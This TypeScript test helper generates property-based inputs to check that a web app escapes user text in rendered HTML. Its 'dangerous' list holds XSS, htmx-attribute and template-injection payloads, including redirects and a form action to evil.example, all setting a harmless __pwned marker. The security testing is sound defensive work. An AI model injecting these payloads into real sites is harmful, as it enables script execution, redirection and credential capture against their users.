import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parse, defaultTreeAdapter as tree } from 'parse5'
import { elements, type Page } from './browser.ts'

/** Ends every text of which a skeleton is made, so that it is found again in whatever form it is shown. */
export const end = 'Zz9q'

/** What a parser of HTML drops or replaces by itself. */
export const asParsed = (text: string) =>
  text
    .toWellFormed()
    .replace(/\r\n?/g, '\n')
    .replace(/\0|\ufffd/g, '')

/** The forms in which views show a text: as it is, in JSON, in a query, and in the address of a picture. */
function formsOf(text: string): string[] {
  const forms = [
    text,
    JSON.stringify(text).slice(1, -1),
    encodeURIComponent(text.toWellFormed()),
    pictureAt(text).slice(pictureAt('').length),
  ]
  return forms.map(asParsed).toSorted((a, b) => b.length - a.length)
}

export const pictureAt = (text: string) => new URL(`https://pictures.example/${text}`).href

export interface Skeleton {
  /** A line for each element, with its attributes, and for each text that shows the text; nested as they are. */
  readonly lines: string
  /** Where the text is shown: `pre`, or `a[href]`. */
  readonly places: ReadonlySet<string>
}

/** What of a document is not text, with `…` in every place where the text is shown. */
export function skeleton(html: string, text: string): Skeleton {
  const forms = formsOf(text)
  const marked = (value: string) => forms.reduce((all, form) => all.replaceAll(form, '…'), asParsed(value))
  const lines: string[] = []
  const places = new Set<string>()
  const add = (depth: number, line: string, place: string) => {
    lines.push(' '.repeat(depth) + line)
    if (line.includes('…')) places.add(place)
  }
  const walk = (node: DefaultTreeAdapterTypes.Node, depth: number, parent: string) => {
    const name = tree.isElementNode(node) ? node.tagName : node.nodeName
    if (tree.isElementNode(node)) add(depth, name, name)
    if (tree.isCommentNode(node)) add(depth, 'comment', name)
    if (tree.isElementNode(node)) {
      for (const attribute of node.attrs) {
        add(depth, ` ${attribute.name}="${marked(attribute.value)}"`, `${name}[${attribute.name}]`)
      }
    }
    // With scripts, what is in a noscript is text as it came.
    if (tree.isTextNode(node) && parent !== 'noscript' && marked(node.value).includes('…')) {
      add(depth, `text ${marked(node.value).match(/…/g)?.length} …`, parent)
    }
    if ('childNodes' in node) for (const child of node.childNodes) walk(child, depth + 1, name)
    if ('content' in node) walk(node.content, depth + 1, name)
  }
  // As it goes over the wire, to a browser with and without scripts.
  // The token of its forms is another one for each page.
  const sent = Buffer.from(html)
    .toString()
    .replace(/(name="token" value=")[\w-]{64}/g, '$1')
  for (const scriptingEnabled of sent.includes('<noscript') ? [true, false] : [false]) {
    walk(parse(sent, { scriptingEnabled }), 0, '')
  }
  return { lines: lines.join('\n'), places }
}

/** How a page is built; how long the session lasts is no part of it. */
export const linesOf = ({ text: html }: Page, text = harmlessText) =>
  skeleton(html, text).lines.replace(/(every |content="|datetime=")\d[^s;"]*/g, '$1')

/** The text of the `pre`, blanks and line ends as they are. */
export function preOf({ text }: Page): string {
  const [pre] = elements(text, 'pre')
  return pre?.childNodes.map((node) => ('value' in node ? node.value : node.nodeName)).join('') ?? ''
}

/** What is dangerous in a document, whole and in pieces; everything that runs sets `__pwned`. */
export const dangerous = [
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror=window.__pwned=1>',
  "'><img src=x onerror=window.__pwned=1>",
  '</pre></bdi></h1></title></noscript></textarea></style></template><script>window.__pwned=1</script>',
  '--><script>window.__pwned=1</script><!--',
  ']]><svg onload=window.__pwned=1>',
  '" autofocus tabindex=0 onfocus="window.__pwned=1',
  "' autofocus tabindex=0 onfocus='window.__pwned=1",
  ' autofocus tabindex=0 onfocus=window.__pwned=1 ',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1" id="session" name="htmx">x</a>',
  'javascript:window.__pwned=1//',
  '\tjava\nscript:window.__pwned=1//',
  'data:text/html,<script>window.__pwned=1</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>',
  '<div hx-get="/sessions" hx-trigger="load" hx-target="body" hx-on:load="window.__pwned=1"></div>',
  '" hx-get="/logout" hx-trigger="load" hx-vals="js:window.__pwned=1" data-hx-on::load="window.__pwned=1',
  '<hx-partial hx-target="#main"><script>window.__pwned=1</script></hx-partial>',
  '<meta name="htmx-config" content=\'{"prefix":"x-"}\'><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example">',
  '<form id="main" name="body" action="https://evil.example"><input name="attributes"><button>x</button></form>',
  '<template><style>*{display:none}</style></template><math><mtext></mtext></math><plaintext>',
  "<%= it.visitor.accessToken() %><%~ include('/layouts/page') %><% globalThis.pwned = 1 %>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one
  "${globalThis.pwned=1}`+{{constructor.constructor('window.__pwned=1')()}}",
  '&lt;script&gt;&#60;script&#62;&quot;&#x22;&amp',
  '\u2028\u2029\u0000\u202e\u2066 🧥 אבג \ufeff\ud800',
] as const

const pieces =
  '< > " \' ` = / & ; <! <!-- --> <![CDATA[ ]]> <? </ /> <% %> <%= <%~ {{ </textarea> </title> </script> <noscript> <svg> <select> <table> javascript: hx-get= data-hx-get= onerror= &#x27; &quot &NotEqualTilde; \0 \r \n \t \x0c \u2028 \u202e \ud800 \udc00 \ufeff \ufffe İ ß'
    .split(' ')
    .concat(' ')

/** Texts that nobody thought of, made of what is dangerous. */
export const madeUpText = fc
  .array(
    fc.oneof(
      { weight: 1, arbitrary: fc.constantFrom(...dangerous) },
      { weight: 5, arbitrary: fc.constantFrom(...pieces) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 5 }) },
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join('') + end)

export const harmlessText = `harmless${end}`
